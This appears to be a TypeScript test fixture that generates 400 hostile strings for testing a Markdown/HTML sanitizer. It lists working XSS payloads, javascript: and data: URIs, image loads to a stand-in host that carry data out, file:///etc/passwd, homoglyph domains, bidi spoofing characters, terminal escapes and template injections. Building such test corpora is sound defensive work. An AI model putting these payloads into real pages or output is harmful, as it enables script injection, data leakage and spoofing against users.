/** Addresses that must never become one that a browser follows by itself. */
const addresses = [
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  "java\tscript:pwn()",
  "java\nscript:pwn()",
  "\u0001javascript:pwn()",
  "javascript&colon;pwn()",
  "&#106;avascript:pwn()",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()",
  "vbscript:pwn()",
  "data:text/html,<script>pwn()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "filesystem:https://evil.example/temporary/x.html",
  "view-source:javascript:pwn()",
  "//evil.example/x.png",
  "https://evil.example/x.png?words=secret",
  "https://xn--80ak6aa92e.com/",
  "https://аррӏе.com/",
];

/** Handlers of elements that would run without a click. */
const elements = [
  "<script>pwn()</script>",
  "<script src=https://evil.example/x.js></script>",
  "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  "<img src=x onerror=pwn()>",
  "<img/src/onerror=pwn()>",
  '<img src="x" onerror="pwn()" style="display:none">',
  "<img src=https://evil.example/x.png>",
  '<img srcset="https://evil.example/x.png 1x">',
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x">',
  "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=pwn()>">',
  "<iframe src=javascript:pwn()></iframe>",
  "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
  "<iframe src=https://evil.example/></iframe>",
  "<object data=javascript:pwn()></object>",
  "<embed src=javascript:pwn()>",
  "<body onload=pwn()>",
  "<details open ontoggle=pwn()>x</details>",
  "<video autoplay><source onerror=pwn()></video>",
  "<audio src=x onerror=pwn()>",
  "<input autofocus onfocus=pwn()>",
  "<marquee onstart=pwn()>x</marquee>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>*{background:url(https://evil.example/x.png)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=javascript:pwn()><button>x</button></form>",
  "<template><img src=x onerror=pwn()></template>",
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  "<a href=javascript:pwn() autofocus tabindex=1 onfocus=pwn()>x</a>",
  "<p style='background-image:url(https://evil.example/x.png)'>x</p>",
  "<!--><img src=x onerror=pwn()>-->",
  "<![CDATA[><img src=x onerror=pwn()>]]>",
];

/** What a text may stand in, so that it is read as something else than a text. */
const frames: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `> ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text} | x |`,
  (text) => `</code></pre>${text}`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `"'>${text}<'"`,
  (text) => `$$${text}$$`,
];

/** Ways in which Markdown makes an address something that a browser loads or follows. */
const links: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[name]\n\n[name]: ${address}`,
  (address) => `![x][y]\n\n[y]: <${address}> "title"`,
];

/** What is no program, and must neither break the page nor look like something else. */
const oddities = [
  "\u202Egnp.exe\u202C",
  "\u2066admin\u2069\u200F",
  "a\u200Bb\u200Cc\u200Dd\uFEFFe",
  "\u001B[31mred\u001B[0m \u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007",
  "\u001B[2J\u001B[1;1H",
  "\u0000\u0008\u007F",
  "\uD800 alone \uDFFF",
  "Z̵̢̛̯͉͎͙͇̪͍̘̩͇͆̂̈́͐̄̓a̶̛̗͓̠͎͚̓͌̎́l̷̰͚̙̻͗̿͝g̴̛̯o",
  "﷽".repeat(50),
  "__proto__",
  "constructor",
  "{{constructor.constructor('pwn()')()}}",
  "${pwn()}",
  "<%= pwn() %>",
  "\\href{javascript:pwn()}{x} \\includegraphics{https://evil.example/x.png} \\htmlData{onclick=pwn()}{x}",
  "[".repeat(500),
  "*".repeat(1_000),
  ">".repeat(300),
  `${"- ".repeat(200)}x`,
  "a".repeat(20_000),
];

/** The corpus: 400 texts, each in its own way an attempt to be more than a text. */
export function hostileTexts(): string[] {
  const all = [
    ...oddities,
    ...addresses.flatMap((address) => links.map((link) => link(address))),
    ...elements.flatMap((element) => frames.map((frame) => frame(element))),
  ];
  return all.slice(0, 400);
}
